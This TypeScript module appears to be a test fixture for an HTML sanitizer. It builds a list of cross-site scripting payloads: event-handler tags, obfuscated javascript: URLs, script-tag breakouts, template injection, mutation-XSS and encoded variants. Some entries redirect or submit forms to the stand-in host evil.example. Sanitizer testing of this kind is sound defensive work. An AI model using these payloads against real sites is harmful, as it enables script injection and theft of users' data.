/** Texts that run a script where a page does not take them as text. */
const run = 'window.ran=1';
const tags = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video src=x onerror',
  'details open ontoggle',
  'input autofocus onfocus',
  'marquee onstart',
  'iframe onload',
  'audio src=x onerror',
  'object data=x onerror',
];
const urls = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'data:text/html,',
  'vbscript:',
  ' javascript:',
];

export const hostileStrings: readonly string[] = [
  ...tags.map((tag) => `<${tag}=${run}>`),
  ...tags.slice(0, 4).map((tag) => `"><${tag}=${run}>`),
  ...urls.map((url) => `<a href="${url}${run}">x</a>`),
  ...urls.slice(0, 3).map((url) => `[x](${url}${run})`),
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `<style>@import '${run}'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<form action=//evil.example><input type=submit>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `'-${run}-'`,
  `";${run}//`,
  `<math><mtext></mtext><mglyph><svg onload=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `&lt;img src=x onerror=${run}&gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D${run}%3E`,
  `<!--><img src=x onerror=${run}>-->`,
];
